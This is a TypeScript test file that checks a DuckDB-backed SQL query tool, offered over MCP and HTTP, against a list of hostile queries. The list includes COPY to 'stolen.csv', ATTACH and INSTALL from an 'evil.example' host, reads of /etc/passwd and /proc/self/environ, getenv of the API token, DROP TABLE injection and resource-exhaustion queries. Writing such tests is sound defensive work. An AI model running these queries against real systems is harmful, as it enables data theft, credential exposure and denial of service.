import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { Client } from '@modelcontextprotocol/client';
import { StdioClientTransport } from '@modelcontextprotocol/client/stdio';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { CODEINTEL, outside } from '../command-line';
import { publishDemo } from '../outputs/query/demo';

const SECRET = 'a-token-of-this-test';
const MOST_MS = 5_000;
const MOST_BYTES = 1024 ** 3;

let folder: string;
let client: Client;
let server: ReturnType<typeof spawn>;
let url: string;
let before: Map<string, string>;

beforeAll(async () => {
  folder = outside();
  const path = await publishDemo({}, join(folder, 'demo.duckdb'));
  await publishDemo({}, join(folder, 'other.duckdb'));
  before = contents();
  const [node, entry] = CODEINTEL;
  const env = { ...process.env, CODEINTEL_API_TOKEN: SECRET } as Record<string, string>;
  const common = { cwd: folder, env };
  server = spawn(node, [entry, 'serve', '--db-path', path, '--listen', '0'], { ...common, stdio: 'pipe' });
  const [said] = await once(server.stderr!.setEncoding('utf8'), 'data');
  url = /http:\S+/.exec(said)![0];
  client = new Client({ name: 'test', version: '1' });
  const mcp = [resolve('build/surfaces/mcp/index.js'), '--db-path', path, '--tools', 'all'];
  await client.connect(new StdioClientTransport({ command: node, args: mcp, ...common, stderr: 'ignore' }));
  await ask(ORDINARY);
});
afterAll(async () => {
  await client.close();
  server.kill();
  await once(server, 'exit');
});

const ORDINARY = 'SELECT count(*) AS n FROM core.goids';

interface Said {
  readonly detail?: string;
  readonly rows?: unknown;
  readonly ms: number;
}

/** What both surfaces say, which is asked for at the same time. */
async function ask(sql: string): Promise<readonly [mcp: Said, http: Said]> {
  const since = performance.now();
  const ms = () => performance.now() - since;
  const overMcp = client.callTool({ name: 'query_sql', arguments: { sql } }).then((result) => {
    const content = result.structuredContent as { rows?: unknown; error?: { detail: string } };
    return { ...content, ...content.error, ms: ms() };
  });
  const overHttp = fetch(`${url}/questions/query_sql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${SECRET}` },
    body: JSON.stringify({ sql }),
  }).then(async (response) => ({ ...((await response.json()) as Said), ms: ms() }));
  return Promise.all([overMcp, overHttp]);
}

/** Another question, at the same time, of both. */
async function askElse(): Promise<void> {
  const since = performance.now();
  const summary = await client.callTool({ name: 'find_symbol', arguments: { query: 'pkg.core.f' } });
  expect(summary.structuredContent).toMatchObject({ status: 'found' });
  const headers = { authorization: `Bearer ${SECRET}` };
  expect((await fetch(`${url}/questions/find_symbol?query=pkg.core.f`, { headers })).status).toBe(200);
  expect(performance.now() - since).toBeLessThan(3_000);
}

/** The largest resident size of a process that this test, or what it started, runs. */
function largestProcess(): number {
  if (process.platform !== 'linux') return 0;
  const processes = readdirSync('/proc').flatMap((pid) => {
    try {
      const status = /^\d+$/.test(pid) ? readFileSync(`/proc/${pid}/status`, 'utf8') : '';
      const field = (name: string) => Number(new RegExp(`^${name}:\\s+(\\d+)`, 'm').exec(status)?.[1] ?? Number.NaN);
      return status === '' ? [] : [{ pid: Number(pid), parent: field('PPid'), bytes: field('VmRSS') * 1024 }];
    } catch {
      return [];
    }
  });
  const isOurs = (pid: number): boolean => {
    const parent = processes.find((one) => one.pid === pid)?.parent;
    return parent !== undefined && (parent === process.pid || isOurs(parent));
  };
  return Math.max(...processes.filter(({ pid }) => isOurs(pid)).map(({ bytes }) => bytes || 0));
}

function contents(): Map<string, string> {
  const names = readdirSync(folder, { recursive: true, encoding: 'utf8' }).sort();
  return new Map(names.map((name) => [name, readFileSync(join(folder, name), 'base64')]));
}

/** Attacks, and what is said of each. */
const REFUSED = /Only one statement is run|syntax error/;
const CLOSED = /disabled by configuration|does not exist|not allowed|single SELECT/i;
const STOPPED = /was stopped/;
const ATTACKS: readonly { readonly said: RegExp; readonly attacks: readonly string[] }[] = [
  {
    said: REFUSED,
    attacks: [
      "COPY core.goids TO 'stolen.csv'",
      "COPY (SELECT 1) TO '/tmp/stolen.csv'",
      "EXPLAIN ANALYZE COPY core.goids TO 'stolen.csv'",
      "EXPORT DATABASE 'stolen'",
      "ATTACH 'other.duckdb'",
      "ATTACH 'https://evil.example/x.duckdb'",
      'INSTALL httpfs',
      "INSTALL x FROM 'https://evil.example'",
      'LOAD httpfs',
      "LOAD '/tmp/evil.duckdb_extension'",
      'SET enable_external_access = true',
      'RESET lock_configuration',
      "SET VARIABLE repo = 'other/other'",
      "PRAGMA memory_limit = '9GB'",
      'PRAGMA database_list',
      'CALL pragma_version()',
      'DELETE FROM core.goids',
      'CREATE TEMP TABLE t AS SELECT 1',
      'CREATE MACRO f() AS 1',
      'SELECT 1; SELECT 2',
      'SELECT 1; DROP TABLE core.goids',
      'BEGIN TRANSACTION',
      'CHECKPOINT',
      'USE memory',
      'PREPARE p AS SELECT 1',
    ],
  },
  {
    said: CLOSED,
    attacks: [
      "SELECT * FROM read_text('/etc/passwd')",
      "SELECT * FROM read_blob('/proc/self/environ')",
      "SELECT * FROM read_csv('/etc/passwd')",
      "SELECT * FROM read_json('https://evil.example/x.json')",
      "FROM '/etc/passwd'",
      "FROM 'other.duckdb'",
      "SELECT * FROM glob('/*')",
      "SELECT * FROM read_text('/proc/*/environ')",
      "SELECT * FROM query('COPY core.goids TO ''stolen.csv''')",
      "SELECT getenv('CODEINTEL_API_TOKEN')",
    ],
  },
  {
    said: STOPPED,
    attacks: [
      'SELECT count(*) FROM range(1000000000000)',
      'SELECT unnest(range(1000000000))',
      'SELECT list(i) FROM range(1000000000) r(i)',
      'WITH RECURSIVE t(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM t) SELECT count(*) FROM t',
      "WITH RECURSIVE t(s) AS (SELECT 'x' UNION ALL SELECT s || s FROM t) SELECT max(length(s)) FROM t",
      "SELECT repeat('x', 2000000000)",
      "SELECT length(string_agg(repeat('x', 1000000), '')) FROM range(100000)",
      'SELECT * FROM range(100000) a, range(100000) b ORDER BY random()',
      "SELECT sum(levenshtein(repeat('a', 100000), repeat('b', 100000))) FROM range(1000)",
    ],
  },
];

describe.each(ATTACKS)('$said is said of', ({ said, attacks }) => {
  test.each(attacks)('%s', async (sql) => {
    let largest = 0;
    const watch = setInterval(() => {
      largest = Math.max(largest, largestProcess());
    }, 100);
    try {
      const [[mcp, http]] = await Promise.all([ask(sql), askElse()]);
      for (const { detail, rows, ms } of [mcp, http]) {
        expect(rows).toBeUndefined();
        expect(detail).toMatch(said);
        expect(detail).not.toContain(SECRET);
        expect(ms).toBeLessThan(MOST_MS);
      }
    } finally {
      clearInterval(watch);
    }
    expect(largest).toBeLessThan(MOST_BYTES);
    for (const { rows } of await ask(ORDINARY)) expect(rows).toEqual([[13]]);
  });
});

test('nothing was written or changed', () => {
  expect(contents()).toEqual(before);
  expect(existsSync('/tmp/stolen.csv')).toBe(false);
});

test('what is known of the settings and the environment is nothing that helps', async () => {
  for (const { rows } of await ask(
    "SELECT name, value FROM duckdb_settings() WHERE name IN ('enable_external_access', 'lock_configuration', 'autoload_known_extensions') ORDER BY name",
  ))
    expect(rows).toEqual([
      ['autoload_known_extensions', 'false'],
      ['enable_external_access', 'false'],
      ['lock_configuration', 'true'],
    ]);
  for (const { rows } of await ask('SELECT * FROM duckdb_settings()'))
    expect(JSON.stringify(rows)).not.toContain(SECRET);
  for (const { rows } of await ask('SELECT * FROM duckdb_secrets()')) expect(rows ?? []).toEqual([]);
});
